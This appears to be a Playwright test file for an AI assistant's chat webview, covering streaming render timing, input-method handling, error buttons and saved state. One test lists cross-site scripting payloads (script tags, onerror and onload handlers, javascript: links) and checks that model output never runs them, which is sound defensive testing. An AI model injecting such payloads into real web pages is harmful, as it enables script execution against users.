    await menu.waitFor({ state: 'hidden' });
    assert.deepEqual((await view.posted()).at(-1), { type: 'attach', kind: 'workspaceProblems' });
    assert.equal(await input.inputValue(), '이 파일 좀 봐 줘 ');
    assert.ok(!(await view.posted()).some((m) => m.type === 'send'), 'Enter picked, it did not send');
    // An e-mail address is not a mention; Escape closes the menu.
    await input.pressSequentially('me@example');
    assert.equal(await menu.isHidden(), true);
    await input.pressSequentially(' @fi');
    await menu.locator('.mention', { hasText: '@file' }).click();
    assert.deepEqual((await view.posted()).at(-1), { type: 'attach', kind: 'files' });
    await page.close();
  });

  it('shows the context gauge, moving as the user types and attaches', async () => {
    const view = await openWebview(browser);
    await view.host(init({ budget: { tokens: 1200, window: 8192, factor: 1 } }));
    const { page } = view;
    const gauge = page.locator('.gauge');
    await gauge.getByText('Context: 1.2k of 8.2k tokens').waitFor();
    await page.locator('textarea').fill('안녕하세요 '.repeat(100));
    await gauge.getByText('Context: 1.7k of 8.2k tokens').waitFor();
    await view.host({ type: 'context', context: [{ id: 'c1', kind: 'file', label: 'big.ts', tokens: 5300 }] });
    await page.getByText('5.3k').waitFor();
    await view.host({ type: 'budget', tokens: 6500, window: 8192, factor: 1 });
    await gauge.getByText('Context: 7.0k of 8.2k tokens').waitFor();
    assert.match((await gauge.getAttribute('class')) ?? '', /over/, 'near the window it warns');
    await view.host({ type: 'budget', tokens: 300, factor: 1 });
    await gauge.getByText(/^Context: \d+ tokens$/).waitFor();
    await page.close();
  });

  it('says what a request left out, and offers Continue for an answer cut off at the limit', async () => {
    const view = await ready();
    const { page } = view;
    await view.host({ type: 'turnStarted', turn: turn('f1') });
    await view.host({
      type: 'fitted',
      requestId: 'f1',
      notes: [
        "3 earlier turns not sent, to fit the model's context window.",
        'sample.ts cut to lines 120-480 (of 1000) to fit.',
      ],
    });
    await page.getByText('3 earlier turns not sent').waitFor();
    await page.getByText('sample.ts cut to lines 120-480').waitFor();
    await view.host({ type: 'delta', requestId: 'f1', content: '잘린 답변', reasoning: '' });
    await view.host({ type: 'turnDone', requestId: 'f1', status: 'done', cutOff: true });
    await page.getByText(strings.cutOff).waitFor();
    await page.getByRole('button', { name: 'Continue' }).click();
    assert.deepEqual((await view.posted()).at(-1), { type: 'action', action: 'continue', requestId: 'f1' });
    await page.getByText('3 earlier turns not sent').waitFor();
    await page.close();
  });

  it('renders per frame, not per delta, from the first burst of an answer on', async () => {
    const view = await ready();
    const { page } = view;
    const rendered = await page.evaluate(
      async (started) => {
        window.dispatchEvent(new MessageEvent('message', { data: started }));
        const target = document.querySelector('.turn .content') as HTMLElement;
        // The new turn has its first frame, with no text yet: that must not hold back the first burst.
        while (target.hasAttribute('data-pending')) await new Promise((resolve) => requestAnimationFrame(resolve));
        let count = 0;
        const observer = new MutationObserver((records) => (count += records.length));
        observer.observe(target, { childList: true, subtree: true, characterData: true });
        // 300 deltas arrive within one task, as a burst from the host would.
        for (let i = 0; i < 300; i++) {
          window.dispatchEvent(
            new MessageEvent('message', {
              data: { type: 'delta', requestId: 't1', content: '가나다 ', reasoning: '' },
            }),
          );
        }
        await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
        observer.disconnect();
        return { count, text: target.textContent ?? '' };
      },
      { type: 'turnStarted', turn: turn('t1') },
    );
    assert.ok(rendered.count <= 6, `${rendered.count} mutation records for one frame of deltas`);
    assert.equal(rendered.text.trim(), '가나다 '.repeat(300).trim());
    await page.close();
  });

  it("renders a burst every few frames, and text at a model's pace in the frame it arrives", async () => {
    const view = await ready();
    const { page } = view;
    await view.host({ type: 'turnStarted', turn: turn('b1') });
    const { burstGaps, paced } = await page.evaluate(async () => {
      const content = document.querySelector('.turn .content') as HTMLElement;
      const frame = () => new Promise((resolve) => requestAnimationFrame(resolve));
      const send = (text: string) =>
        window.dispatchEvent(
          new MessageEvent('message', { data: { type: 'delta', requestId: 'b1', content: text, reasoning: '' } }),
        );
      // 400 characters a frame, as a burst from the host would bring; when each render happened,
      // by the clock (a render's DOM changes reach the observer right after it).
      const renders: number[] = [];
      const observer = new MutationObserver(() => renders.push(performance.now()));
      observer.observe(content, { childList: true, subtree: true, characterData: true });
      for (let i = 0; i < 30; i++) {
        for (let j = 0; j < 100; j++) send('가나다 ');
        await frame();
      }
      observer.disconnect();
      // A new paragraph: the block being written is short again (a long one is rendered after the frame).
      send('\n\n새 문단입니다.\n');
      while (content.hasAttribute('data-pending')) await frame();
      // A model's pace: a few characters a frame, each shown in the frame it arrived in.
      let inTime = 0;
      for (let i = 0; i < 10; i++) {
        const before = content.textContent?.length ?? 0;
        send(`단어${i} `);
        await frame();
        if ((content.textContent?.length ?? 0) > before) inTime++;
      }
      return { burstGaps: renders.slice(1).map((time, i) => time - renders[i]), paced: inTime };
    });
    assert.ok(burstGaps.length >= 4, `only ${burstGaps.length + 1} renders in 30 frames of a burst`);
    assert.ok(Math.min(...burstGaps) >= 70, `renders ${Math.min(...burstGaps)} ms apart during a burst`);
    assert.equal(paced, 10);
    await page.close();
  });

  it('renders what does not fit in the frame in a task after it, so no task holds a slice of script and its layout', async () => {
    const view = await ready();
    const { page } = view;
    await view.host({ type: 'turnStarted', turn: turn('f1') });
    const changes = await page.evaluate(async () => {
      const content = document.querySelector('.turn .content') as HTMLElement;
      const send = (text: string) =>
        window.dispatchEvent(
          new MessageEvent('message', { data: { type: 'delta', requestId: 'f1', content: text, reasoning: '' } }),
        );
      const settled = async () => {
        while (content.hasAttribute('data-pending')) await new Promise((resolve) => requestAnimationFrame(resolve));
      };
      // A first paragraph, rendered as a finished block, so the panel knows what rendering costs;
      // the block after it is written on below.
      send('첫 문단입니다. The first paragraph.\n\n둘째 문단\n');
      await settled();
      // DOM changes made inside animation frame callbacks (before the frame is laid out and painted)
      // and in other tasks. The panel looks up requestAnimationFrame each time it asks for a frame.
      const counted = { inFrame: 0, after: 0 };
      const observer = new MutationObserver((records) => (counted.after += records.length));
      observer.observe(content, { childList: true, subtree: true, characterData: true });
      const original = window.requestAnimationFrame.bind(window);
      window.requestAnimationFrame = (callback) =>
        original((time) => {
          counted.after += observer.takeRecords().length;
          callback(time);
          counted.inFrame += observer.takeRecords().length;
        });
      // A paragraph that grows by 24 KB at once, twice, then the answer ends: rendering it (again)
      // costs far more than the frame's 1 ms, whether it is the block still being written or a
      // finished one.
      const paragraph = '긴 문단의 문장입니다. A long paragraph. '.repeat(800);
      send(paragraph);
      await settled();
      send(`${paragraph}\n\n`);
      await settled();
      window.dispatchEvent(
        new MessageEvent('message', { data: { type: 'turnDone', requestId: 'f1', status: 'done' } }),
      );
      await settled();
      await new Promise((resolve) => original(resolve));
      window.requestAnimationFrame = original;
      counted.after += observer.takeRecords().length;
      observer.disconnect();
      return counted;
    });
    assert.equal(changes.inFrame, 0, `${changes.inFrame} DOM changes in animation frames`);
    assert.ok(changes.after > 0, 'no DOM changes after the frames');
    const text = (await page.locator('.turn .content').textContent()) ?? '';
    assert.equal(text.match(/A long paragraph/g)?.length, 1600);
    assert.ok(text.trim().endsWith('A long paragraph.'), text.slice(-40));
    assert.equal(await page.locator('.turn .content p').count(), 2);
    await page.close();
  });

  it('never runs script from model output', async () => {
    const view = await ready();
    const { page } = view;
    await view.host({ type: 'turnStarted', turn: turn('x1') });
    const hostile = [
      '<img src=x onerror="window.__xss=1">',
      '<script>window.__xss=2</script>',
      '[click](javascript:window.__xss=3)',
      '<a href="javascript:window.__xss=4">a</a>',
      '<svg onload="window.__xss=5"></svg>',
      '![img](x" onerror="window.__xss=6)',
      '```html\n<script>window.__xss=7</script>\n```',
    ].join('\n\n');
    await view.host({
      type: 'delta',
      requestId: 'x1',
      content: hostile,
      reasoning: '<img src=y onerror="window.__xss=8">',
    });
    await view.host({ type: 'turnDone', requestId: 'x1', status: 'done' });
    await page.locator('.turn .content pre').waitFor();
    for (const link of await page.locator('.turn .content a').all()) await link.click();
    // Every image has loaded or failed (when an onerror would have run), and a frame has passed.
    await page.waitForFunction(() => Array.from(document.querySelectorAll('img')).every((img) => img.complete));
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0))));
    assert.equal(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss), undefined);
    assert.equal(
      await page.locator('.turn script, .turn [onerror], .turn [onload], .turn a[href^="javascript"]').count(),
      0,
    );
    // Raw HTML is shown as text, not dropped silently.
    assert.match((await page.locator('.turn .content').textContent()) ?? '', /<img src=x onerror=/);
    assert.ok(!(await view.posted()).some((m) => m.type === 'openLink' && /^javascript/i.test(m.href)));
    await page.close();
  });

  it('opens links through the host', async () => {
    const view = await ready();
    await view.host({ type: 'turnStarted', turn: turn('l1') });
    await view.host({
      type: 'delta',
      requestId: 'l1',
      content: 'See [the docs](https://genos.example.com/docs).',
      reasoning: '',
    });
    await view.host({ type: 'turnDone', requestId: 'l1', status: 'done' });
    await view.page.getByRole('link', { name: 'the docs' }).click();
    assert.deepEqual((await view.posted()).at(-1), { type: 'openLink', href: 'https://genos.example.com/docs' });
    assert.match(view.page.url(), /^file:/);
    await view.page.close();
  });

  it('does not send on Enter while an input method is composing; sends on a plain Enter', async () => {
    const view = await ready();
    const { page } = view;
    const input = page.locator('textarea');
    await input.fill('안녕하세요');
    for (const init of [
      { isComposing: true, keyCode: 13 },
      { isComposing: false, keyCode: 229 },
    ]) {
      await input.evaluate(
        (node, options) =>
          node.dispatchEvent(
            new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, cancelable: true, ...options }),
          ),
        init,
      );
    }
    assert.ok(!(await view.posted()).some((m) => m.type === 'send'), 'sent during composition');
    await input.press('Shift+Enter');
    assert.ok(!(await view.posted()).some((m) => m.type === 'send'), 'Shift+Enter sent');
    await input.press('Enter');
    const send = (await view.posted()).find((m) => m.type === 'send');
    assert.ok(send && send.type === 'send');
    assert.equal(send.text, '안녕하세요\n');
    // The text stays until the host accepts the question.
    assert.equal(await input.inputValue(), '안녕하세요\n');
    await view.host({ type: 'turnStarted', turn: turn('s1', { question: send.text }), clientId: send.clientId });
    assert.equal(await input.inputValue(), '');
    await page.close();
  });

  it('keeps the text and leads to the missing piece when the host refuses to send', async () => {
    const view = await ready();
    const { page } = view;
    await page.locator('textarea').fill('설정이 없을 때 질문');
    await page.locator('textarea').press('Enter');
    const send = (await view.posted()).find((m) => m.type === 'send');
    assert.ok(send && send.type === 'send');
    await view.host({
      type: 'refused',
      clientId: send.clientId,
      message: 'The GenOS address is not set.',
      actions: ['openSettings'],
    });
    await page.getByText('The GenOS address is not set.').waitFor();
    assert.equal(await page.locator('textarea').inputValue(), '설정이 없을 때 질문');
    await page.getByRole('button', { name: 'Open Settings' }).click();
    assert.deepEqual((await view.posted()).at(-1), { type: 'action', action: 'openSettings', requestId: '' });
    await page.close();
  });

  it('Stop posts a cancel while streaming, and the partial answer stays, marked stopped', async () => {
    const view = await ready();
    const { page } = view;
    await view.host({ type: 'turnStarted', turn: turn('s1') });
    await view.host({ type: 'delta', requestId: 's1', content: '부분 답변', reasoning: '' });
    await page.getByRole('button', { name: 'Stop' }).click();
    assert.deepEqual((await view.posted()).at(-1), { type: 'stop' });
    await view.host({ type: 'turnDone', requestId: 's1', status: 'stopped' });
    await page.getByText(strings.stopped).waitFor();
    assert.equal(((await page.locator('.turn .content').textContent()) ?? '').trim(), '부분 답변');
    await page.getByRole('button', { name: 'Send' }).waitFor();
    await page.close();
  });

  it('shows an error with its action buttons, and the buttons act', async () => {
    const view = await ready();
    const { page } = view;
    await view.host({ type: 'turnStarted', turn: turn('e1') });
    await view.host({ type: 'delta', requestId: 'e1', content: '받은 부분', reasoning: '' });
    await view.host({
      type: 'turnError',
      requestId: 'e1',
      status: 'error',
      message: 'GenOS did not accept the access token (401).',
      actions: ['setToken', 'retry'],
    });
    await page.getByText('GenOS did not accept the access token (401).').waitFor();
    assert.match((await page.locator('.turn .content').textContent()) ?? '', /받은 부분/);
    await page.getByRole('button', { name: 'Set Access Token' }).click();
    assert.deepEqual((await view.posted()).at(-1), { type: 'action', action: 'setToken', requestId: 'e1' });
    await page.getByRole('button', { name: 'Retry' }).click();
    assert.deepEqual((await view.posted()).at(-1), { type: 'retry', requestId: 'e1' });
    await page.close();
  });

  it('streams thinking in a section that collapses when the answer starts', async () => {
    const view = await ready();
    const { page } = view;
    await view.host({ type: 'turnStarted', turn: turn('r1') });
    await view.host({ type: 'delta', requestId: 'r1', content: '', reasoning: '먼저 생각해 봅시다.' });
    const thinking = page.locator('.turn details.thinking');
    await thinking.getByText('먼저 생각해 봅시다.').waitFor();
    assert.equal(await thinking.evaluate((d) => (d as HTMLDetailsElement).open), true);
    await view.host({ type: 'delta', requestId: 'r1', content: '답입니다.', reasoning: '' });
    await page.locator('.turn .content', { hasText: '답입니다.' }).waitFor();
    assert.equal(await thinking.evaluate((d) => (d as HTMLDetailsElement).open), false);
    await page.close();
  });

  it('keeps thinking open and says so when there is no separate answer', async () => {
    const view = await ready();
    const { page } = view;
    await view.host({ type: 'turnStarted', turn: turn('r2') });
    await view.host({ type: 'delta', requestId: 'r2', content: '', reasoning: '생각만 했습니다.' });
    await view.host({ type: 'turnDone', requestId: 'r2', status: 'done' });
    await page.getByText(strings.noSeparateAnswer).waitFor();
    assert.equal(await page.locator('.turn details.thinking').evaluate((d) => (d as HTMLDetailsElement).open), true);
    await page.close();
  });

  it('offers Copy and Insert on code blocks, and Replace Selection when there is one', async () => {
    const view = await openWebview(browser);
    await view.host(init({ hasSelection: true }));
    await view.host({ type: 'turnStarted', turn: turn('c1') });
    await view.host({ type: 'delta', requestId: 'c1', content: '```python\nprint("안녕")\n```\n', reasoning: '' });
    await view.host({ type: 'turnDone', requestId: 'c1', status: 'done' });
    const block = view.page.locator('.code-block');
    await block.getByRole('button', { name: 'Insert' }).click();
    assert.deepEqual((await view.posted()).at(-1), { type: 'insert', text: 'print("안녕")\n' });
    await block.getByRole('button', { name: 'Replace Selection' }).click();
    assert.deepEqual((await view.posted()).at(-1), { type: 'replaceSelection', text: 'print("안녕")\n' });
    await block.getByRole('button', { name: 'Copy' }).click();
    assert.deepEqual((await view.posted()).at(-1), { type: 'copy', text: 'print("안녕")\n' });
    await view.page.close();
  });

  it('shows attached context as removable chips', async () => {
    const view = await ready();
    await view.host({ type: 'context', context: [{ id: 'k1', kind: 'selection', label: 'app.ts:3-9' }] });
    await view.page.getByText('app.ts:3-9').waitFor();
    await view.page.getByRole('button', { name: 'Remove: app.ts:3-9' }).click();
    assert.deepEqual((await view.posted()).at(-1), { type: 'removeContext', id: 'k1' });
    await view.page.close();
  });

  it('saves its state and restores it from getState before the host answers', async () => {
    const first = await ready();
    await first.host({ type: 'turnStarted', turn: turn('h1', { question: '기록 질문' }) });
    await first.host({ type: 'delta', requestId: 'h1', content: '## 저장된 답변', reasoning: '' });
    await first.host({ type: 'turnDone', requestId: 'h1', status: 'done' });
    await first.page.locator('textarea').fill('쓰다 만 질문');
    // The draft is saved within a second of typing.
    await first.page.waitForFunction(
      () => (window as unknown as { __savedState?: { draft?: string } }).__savedState?.draft === '쓰다 만 질문',
    );
    const state = await first.savedState();
    await first.page.close();

    const second = await openWebview(browser, state);
    // No init sent: everything comes from getState.
    await second.page.locator('.turn .content h2', { hasText: '저장된 답변' }).waitFor();
    assert.equal(await second.page.locator('.question-text').textContent(), '기록 질문');
    assert.equal(await second.page.locator('textarea').inputValue(), '쓰다 만 질문');
    await second.page.close();
  });
});
